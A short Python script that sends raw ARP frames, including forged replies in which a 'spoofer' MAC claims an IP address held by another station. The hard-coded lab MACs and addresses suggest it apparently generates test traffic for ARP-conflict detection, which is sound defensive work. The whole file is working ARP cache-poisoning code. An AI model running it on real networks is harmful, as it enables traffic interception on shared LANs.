"""arp-spoofer.py DEVICE OWN_ADDRESS CLAIMED: a station with its own address claims one that another station has."""

import socket
import struct
import sys
import time

device, own, claimed = sys.argv[1:]
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((device, 0))
holder, spoofer = bytes.fromhex("02000000aa01"), bytes.fromhex("02000000aa66")
asked = "10.201.0.2"


def send(operation, mac, address, target):
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation)
    arp += mac + socket.inet_aton(address) + bytes(6) + socket.inet_aton(target)
    out.send(b"\xff" * 6 + mac + b"\x08\x06" + arp)


for _ in range(12):
    send(1, holder, claimed, asked)
    send(1, spoofer, own, asked)
    send(2, spoofer, claimed, asked)
    time.sleep(0.5)
